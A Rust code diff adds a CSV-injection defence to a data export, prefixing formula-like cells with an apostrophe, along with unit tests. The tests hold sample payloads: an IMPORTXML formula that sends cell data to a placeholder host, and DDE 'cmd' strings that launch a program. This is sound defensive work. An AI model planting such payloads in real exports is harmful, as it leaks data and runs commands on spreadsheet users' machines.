@@ -395,7 +395,7 @@ impl ExportQuery {
             let record: Vec<String> = columns
                 .iter()
                 .map(|c| match r.get(*c) {
-                    Some(serde_json::Value::String(s)) => s.clone(),
+                    Some(serde_json::Value::String(s)) => spreadsheet_safe(s),
                     Some(serde_json::Value::Null) | None => String::new(),
                     Some(v) => num(Some(v)).to_string(),
                 })
@@ -407,5 +407,59 @@ impl ExportQuery {
             .into_inner()
             .map_err(|e| errors::internal(&rc.request_id, &e))?;
         String::from_utf8(bytes).map_err(|e| errors::internal(&rc.request_id, &e))
+    }
+}
+
+/// A CSV cell a spreadsheet will show as text, never run: a value that starts
+/// like a formula (`=`, `@`, tab, carriage return, or `+`/`-` followed by
+/// anything but a number, as OWASP's CSV-injection advice lists) gets a leading
+/// `'`. A customer named `=IMPORTXML(…)` would otherwise send the list out of
+/// the manager's spreadsheet. Plain numbers and E.164 phones stay as they are.
+pub fn spreadsheet_safe(cell: &str) -> String {
+    let mut chars = cell.chars();
+    let risky = match chars.next() {
+        Some('=' | '@' | '\t' | '\r') => true,
+        Some('+' | '-') => {
+            let rest = chars.as_str();
+            rest.is_empty() || !rest.chars().all(|c| c.is_ascii_digit() || c == '.')
+        }
+        _ => false,
+    };
+    if risky {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_safe;
+
+    #[test]
+    fn a_cell_that_starts_like_a_formula_is_shown_as_text() {
+        for formula in [
+            "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
+            "@SUM(A1)",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "\t=1",
+        ] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+    }
+
+    #[test]
+    fn names_numbers_and_phones_are_left_alone() {
+        for plain in [
+            "Ada Lovelace",
+            "+15125550100",
+            "-42",
+            "12.50",
+            "O'Brien",
+            "",
+        ] {
+            assert_eq!(spreadsheet_safe(plain), plain);
+        }
     }
 }
